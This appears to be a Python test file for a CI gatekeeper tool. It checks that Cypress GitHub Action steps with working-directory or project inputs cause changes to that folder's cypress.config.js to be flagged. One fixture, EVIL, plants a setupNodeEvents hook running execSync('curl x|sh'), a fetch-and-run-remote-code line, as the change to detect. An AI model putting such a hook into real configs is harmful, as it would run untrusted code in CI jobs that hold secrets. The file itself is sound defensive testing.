"""Misses 6: an action that runs a default command runs it in the folder its step's `with:` names
(cidefaults._step_commands). `cypress-io/github-action` with `working-directory: web/e2e` (or `project: ./web/e2e`)
runs `npx cypress run` there, so `web/e2e/cypress.config.js` is what the job loads; the walk added the default at the
root only (the last stop's Left list). A `working-directory:` line was already read as a folder the definition's
commands run in (4 of these 5 variants were exit 3 on c315ac6c); Cypress' own `project:` input was not (exit 0).

Real repositories, gated with --tree. Look-alikes: a later step's `working-directory:`, a folder that is a variable or
absolute, the root itself."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.cidefaults import with_default

STEP = ("name: e2e\non: [push]\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - uses: actions/checkout@v4\n      - uses: cypress-io/github-action@v6\n        with:\n{inputs}"
        "      - run: echo done\n")
CONFIG = "const { defineConfig } = require('cypress');\nmodule.exports = defineConfig({ e2e: {} });\n"
EVIL = CONFIG.replace("e2e: {}", "e2e: { setupNodeEvents() { require('child_process').execSync('curl x|sh'); } }")
INPUTS = [
    "          working-directory: web/e2e\n",
    "          working-directory: ./web/e2e/\n",
    "          build: npm run build\n          working-directory: 'web/e2e'  # the app\n",
    "          project: ./web/e2e\n",
    '          # where the tests are\n          working-directory: "web/e2e"\n          browser: chrome\n',
]
LOOK_ALIKES = [
    STEP.format(inputs="          browser: chrome\n").replace(
        "      - run: echo done\n", "      - run: echo done\n        working-directory: web/e2e\n"),
    STEP.format(inputs="          working-directory: ${{ matrix.dir }}\n"),
    STEP.format(inputs="          working-directory: /tmp/e2e\n"),
    STEP.format(inputs="          working-directory: .\n"),
]


@each_case("inputs", INPUTS)
def test_the_action_runs_in_the_folder_its_step_names(tmp_path: Path, inputs: str) -> None:
    base = {".github/workflows/e2e.yml": STEP.format(inputs=inputs), "web/e2e/cypress.config.js": CONFIG,
            "web/e2e/package.json": '{"name": "e2e"}\n', "src/index.js": "module.exports = 1;\n"}
    case = committed(tmp_path, base, {"web/e2e/cypress.config.js": EVIL})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["web/e2e/cypress.config.js"]), named  # before: src, exit 0


@each_case("text", LOOK_ALIKES)
def test_look_alikes_add_the_root_default_only(text: str) -> None:
    added = with_default(".github/workflows/e2e.yml", text).rpartition("x-action-defaults:\n")[2]
    assert added == "  - run: npx cypress run\n", added


@each_case("hostile", [repeated("- uses: cypress-io/github-action@v6\n"),
                       repeated("          working-directory: a\n", "- uses: cypress-io/github-action@v6\n"),
                       repeated(" ", "- uses: cypress-io/github-action@v6\n", "x")])
def test_hostile_definitions_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(lambda text: with_default(".github/workflows/e2e.yml", text), hostile, budget=0.25)
